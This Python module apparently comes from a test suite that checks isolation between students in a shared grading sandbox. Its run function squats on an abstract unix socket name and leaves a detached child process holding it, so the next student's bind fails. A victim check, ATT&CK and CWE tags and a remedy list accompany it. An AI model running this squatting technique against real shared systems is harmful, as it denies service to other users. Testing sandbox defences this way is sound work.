# SPDX-License-Identifier: MIT
"""abstract-name-squat.py - somebody lives at your address.

Goal: the next student's honest program cannot open its service.
Means: the abstract names of unix sockets are one list for a network namespace, without owner and
mode. A survivor sits on the name that the exercise uses; bind(2) tells the next student that it is
taken. No file is there that could be removed.
"""

import errno
import os
import socket
import time

from attack import DONE, attempting, denied, failed

LIFE = 5


def run(brief):
    attempting()
    try:
        seat = socket.socket(socket.AF_UNIX)
        seat.bind(f"\0{brief.name}")
        seat.listen()
        child = os.fork()
    except OSError as why:
        return denied("squat", why)
    if child == 0:
        os.setsid()
        os.closerange(0, 3)
        time.sleep(LIFE)
        os._exit(0)
    return DONE


def victim(brief):
    """Opens a service and calls it. Where sockets are denied, it leaves the exercise out."""
    try:
        with socket.socket(socket.AF_UNIX) as service, socket.socket(socket.AF_UNIX) as caller:
            service.bind(f"\0{brief.name}")
            service.listen()
            caller.connect(f"\0{brief.name}")
            return DONE
    except OSError as why:
        return failed("bind", why) if why.errno == errno.EADDRINUSE else DONE


ATTACK = {
    "effect": "the next student cannot open its service",
    "means": "a survivor on the abstract unix socket name that the exercise uses",
    "oracle": "victim",
    "scene": "before-victim",
    "id": "IPC-07",
    "attack_id": "T1499.004, CWE-459, CWE-772",
    "remedy": "end every process of a student; no sockets; a network namespace per student",
    "refs": ["unix(7), Abstract sockets"],
    "run": run,
    "victim": victim,
}
